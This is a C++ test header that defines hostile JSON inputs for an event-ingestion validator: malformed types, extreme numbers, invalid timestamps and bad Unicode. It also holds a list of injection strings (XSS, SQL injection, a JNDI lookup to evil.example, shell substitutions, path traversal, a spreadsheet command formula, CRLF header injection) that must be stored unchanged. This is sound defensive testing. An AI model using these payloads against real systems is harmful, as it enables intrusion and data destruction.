// SPDX-FileCopyrightText: 2026 The Andon authors
// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include "tests/app/hostile/hostilecase.h"

namespace Andon {

/// One element of a batch that is well-formed, and why it is rejected; no reason when it is taken.
struct HostileElement
{
    QByteArray name = {};
    QByteArray json = {};
    QByteArray reason = {};
};

/// An event of which each member is text of JSON.
inline QByteArray eventOf(const QByteArray &id, const QByteArray &time = R"("2026-01-15T10:00:00Z")", const QByteArray &duration = "1000", const QByteArray &defects = "0",
                          const QByteArray &more = {}, const QByteArray &machine = R"("press-7")")
{
    return R"({"eventId":)" + id + R"(,"eventTime":)" + time + R"(,"machineId":)" + machine + R"(,"durationMs":)" + duration + R"(,"defectCount":)" + defects + more + '}';
}

inline std::vector<HostileElement> elementsOfWrongKinds()
{
    const QByteArray nested = QByteArray(15, '[') + QByteArray(15, ']');   // sixteen deep with the batch
    return {
        {"null", "null", "INVALID_EVENT"},
        {"a number", "-0.0e-0", "INVALID_EVENT"},
        {"a huge number", QByteArray(100'000, '9'), "INVALID_EVENT"},
        {"a string", "\"event\"", "INVALID_EVENT"},
        {"an event in an array", '[' + eventJson("hidden") + ']', "INVALID_EVENT"},
        {"as deep as may be", nested, "INVALID_EVENT"},
        {"an empty object", "{}", "MISSING_EVENT_ID"},
        {"an id that is an object", eventOf(R"({"$gt":""})"), "MISSING_EVENT_ID"},
        {"an id that is a number", eventOf("17"), "MISSING_EVENT_ID"},
        {"a blank id", eventOf(R"(" \t\n ")"), "MISSING_EVENT_ID"},
        {"an id given twice, the last one null", eventOf(R"("hidden","eventId":null)"), "MISSING_EVENT_ID"},
        {"a key in capitals", R"({"EVENTID":"hidden","eventTime":"2026-01-15T10:00:00Z","machineId":"m","durationMs":1,"defectCount":0})", "MISSING_EVENT_ID"},
        {"a machine that is a list", eventOf("\"hidden\"", "\"2026-01-15T10:00:00Z\"", "1", "0", "", R"(["press-7"])"), "MISSING_MACHINE_ID"},
        {"a duration in a string", eventOf("\"hidden\"", "\"2026-01-15T10:00:00Z\"", "\"1000\""), "MISSING_DURATION"},
        {"a duration that is true", eventOf("\"hidden\"", "\"2026-01-15T10:00:00Z\"", "true"), "MISSING_DURATION"},
        {"defects in a string", eventOf("\"hidden\"", "\"2026-01-15T10:00:00Z\"", "1", "\"0\""), "MISSING_DEFECT_COUNT"},
        {"defects that are a list", eventOf("\"hidden\"", "\"2026-01-15T10:00:00Z\"", "1", "[0]"), "MISSING_DEFECT_COUNT"},
        {"a line that is a number", eventOf("\"hidden\"", "\"2026-01-15T10:00:00Z\"", "1", "0", R"(,"lineId":7)"), "INVALID_FIELD"},
        {"a factory that is an object", eventOf("\"hidden\"", "\"2026-01-15T10:00:00Z\"", "1", "0", R"(,"factoryId":{})"), "INVALID_FIELD"},
        {"an id given twice counts as the last", eventOf(R"("hidden","eventId":"given-twice")")},
        {"a key in escapes is the same key", R"({"\u0065ventId":"escaped-key","eventTime":"2026-01-15T10:00:00Z","machineId":"m","durationMs":1,"defectCount":0})"},
        {"fields nobody knows", eventOf("\"unknown-fields\"", "\"2026-01-15T10:00:00Z\"", "1", "0", R"(,"__proto__":{"isAdmin":true},"":[],"note":[{}],"receivedTime":1e999)")},
    };
}

inline std::vector<HostileElement> elementsWithNumbers()
{
    const auto duration = [](const QByteArray &name, const QByteArray &number, const QByteArray &reason = "INVALID_DURATION") {
        return HostileElement {"duration: " + name, eventOf('"' + (reason.isEmpty() ? "duration " + name : QByteArray("hidden")) + '"', "\"2026-01-15T10:00:00Z\"", number), reason};
    };
    const auto defects = [](const QByteArray &name, const QByteArray &number, const QByteArray &reason = "INVALID_DEFECT_COUNT") {
        return HostileElement {"defects: " + name, eventOf('"' + (reason.isEmpty() ? "defects " + name : QByteArray("hidden")) + '"', "\"2026-01-15T10:00:00Z\"", "1", number), reason};
    };
    return {
        duration("negative", "-1"),
        duration("a millisecond too long", "21600001"),
        duration("a fraction", "0.5"),
        duration("nearly whole", "999.9999999999999999999999"),
        duration("2^31", "2147483648"),
        duration("2^32 and 5", "4294967301"),
        duration("2^63", "9223372036854775808"),
        duration("2^64 and 5", "18446744073709551621"),
        duration("beyond every double", "1e400"),
        duration("a hair above zero", "1e-400"),
        duration("5,000 digits", QByteArray(5'000, '1')),
        duration("an exponent of 5,000 digits", "1e" + QByteArray(5'000, '1')),
        duration("the longest", "21600000", ""),
        duration("whole with a point", "1000.000", ""),
        duration("whole with an exponent", "1e3", ""),
        duration("zero times a lot", "0e99999", ""),
        defects("minus two", "-2"),
        defects("2^31", "2147483648"),
        defects("a fraction", "1.5"),
        defects("beyond every double", "1e309"),
        defects("minus beyond every double", "-1e309"),
        defects("5,000 digits", '-' + QByteArray(5'000, '1')),
        defects("as many as there can be", "2147483647", ""),
        defects("unknown", "-1.0", ""),
    };
}

inline std::vector<HostileElement> elementsWithTimes()
{
    const auto time = [](const QByteArray &name, const QByteArray &text, const QByteArray &reason = "INVALID_EVENT_TIME_FORMAT") {
        return HostileElement {"time: " + name, eventOf("\"hidden\"", '"' + text + '"'), reason};
    };
    return {
        time("empty", "", "MISSING_EVENT_TIME"),
        time("blank", " "),
        time("year 10000", "10000-01-01T00:00:00Z"),
        time("year +10000", "+010000-01-01T00:00:00Z"),
        time("year -1", "-0001-01-01T00:00:00Z"),
        time("year 9999", "9999-12-31T23:59:59.999999999Z", "FUTURE_EVENT_TIME"),
        time("beyond year 9999 by its offset", "9999-12-31T23:59:59-14:00", "INVALID_EVENT_TIME_FORMAT"),
        time("the 30th of February", "2026-02-30T00:00:00Z"),
        time("the 29th of February in no leap year", "2025-02-29T00:00:00Z"),
        time("month 13", "2026-13-01T00:00:00Z"),
        time("month 0", "2026-00-01T00:00:00Z"),
        time("day 0", "2026-01-00T00:00:00Z"),
        time("hour 25", "2026-01-15T25:00:00Z"),
        time("minute 60", "2026-01-15T10:60:00Z"),
        time("an offset of 99 hours", "2026-01-15T10:00:00+99:00"),
        time("no zone", "2026-01-15T10:00:00"),
        time("a zone by name", "2026-01-15T10:00:00 Europe/Berlin"),
        time("a date alone", "2026-01-15"),
        time("garbage behind it", "2026-01-15T10:00:00Zulu"),
        time("a blank in front", " 2026-01-15T10:00:00Z"),
        time("a NUL behind it", "2026-01-15T10:00:00Z\\u0000"),
        time("SQL behind it", "2026-01-15T10:00:00Z'; DROP TABLE events; --"),
        time("other digits", "\u0662\u0660\u0662\u0666-01-15T10:00:00Z"),
        time("a fraction of 5,000 digits", "2026-01-15T10:00:00." + QByteArray(5'000, '1') + 'Z'),
        {"time: a number", eventOf("\"hidden\"", "1768471200000"), "INVALID_EVENT_TIME_FORMAT"},
        {"time: a huge number", eventOf("\"hidden\"", "1e300"), "INVALID_EVENT_TIME_FORMAT"},
    };
}

inline std::vector<HostileElement> elementsWithTexts()
{
    const auto quoted = [](const QByteArray &text) { return '"' + text + '"'; };
    const auto refused = [&](const QByteArray &name, const QByteArray &text) { return HostileElement {"text: " + name, eventOf(quoted(text)), "INVALID_FIELD"}; };
    const auto machine = [&](const QByteArray &name, const QByteArray &text) {
        return HostileElement {"machine: " + name, eventOf("\"hidden\"", "\"2026-01-15T10:00:00Z\"", "1", "0", "", quoted(text)), "INVALID_FIELD"};
    };
    const auto line = [&](const QByteArray &name, const QByteArray &text) {
        return HostileElement {"line: " + name, eventOf("\"hidden\"", "\"2026-01-15T10:00:00Z\"", "1", "0", ",\"lineId\":" + quoted(text)), "INVALID_FIELD"};
    };
    return {
        refused("4,001 bytes", QByteArray(4'001, 'x')),
        refused("4,001 bytes of umlauts", QByteArray("\xc3\xa4").repeated(2'000) + 'x'),
        refused("a megabyte", QByteArray(1024 * 1024, 'x')),
        refused("NUL within", R"(hidden\u0000)"),
        refused("a lone high surrogate", R"(hidden\ud800)"),
        refused("a lone low surrogate", R"(hidden\udc00)"),
        refused("surrogates the wrong way round", R"(hidden\ude00\ud83d)"),
        refused("a high surrogate and a letter", R"(hidden\ud83dx)"),
        refused("U+FFFE", R"(hidden\ufffe)"),
        refused("U+FFFF as it is", "hidden\xef\xbf\xbf"),
        refused("a byte order mark in front", R"(\ufeffhidden)"),
        machine("4,001 bytes", QByteArray(4'001, 'x')),
        machine("NUL within", R"(press\u0000-7)"),
        machine("a lone surrogate", R"(press\udfff-7)"),
        line("4,001 bytes", QByteArray(4'001, 'x')),
        line("NUL within", R"(A\u0000)"),
        line("a byte order mark in front", "\xef\xbb\xbf""A"),
    };
}

/// Ids and names that have to come back as they were sent, here in UTF-8.
inline QByteArrayList textsToKeep()
{
    return {
        "<img src=x onerror=alert(1)>",
        "</script><script>alert(document.domain)</script>",
        "&lt;b&gt; &amp; \"quotes\" 'and' `ticks`",
        "'; DROP TABLE events; --",
        "\" OR \"1\"=\"1",
        "1' UNION SELECT sql FROM sqlite_master--",
        "%s%s%s%n%n%n%x%p",
        "%1 %2 %L1 {0} ${jndi:ldap://evil.example/a} $(reboot) `reboot`",
        "..\\..\\windows\\system32 ../../../etc/passwd C:\\con\\con",
        "=cmd|' /C calc'!A0",
        "a\r\nSet-Cookie: a=b\r\n\r\n<html>",
        "\x1b[31mred\x1b[0m\x07",
        "  blanks stay  ",
        "\xe2\x80\xaegnp.exe",                     // right to left
        "e\xcc\x81 is not \xc3\xa9",               // two spellings of one letter
        "\xef\xb7\xbdzalgo\xcd\x9b\xcd\xad\xcc\xa0",
        "\xf0\x9f\x98\x80 \xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x8f\xad",
        "\xf4\x8f\xbf\xbf",                        // the last there is
        "within \xef\xbb\xbf it",
        "null", "true", "0", "-0", "NaN", "undefined", "__proto__", "constructor",
        QByteArray(4'000, 'x'),
        QByteArray("\xf0\x9f\x98\x80").repeated(1'000),
    };
}

} // namespace Andon
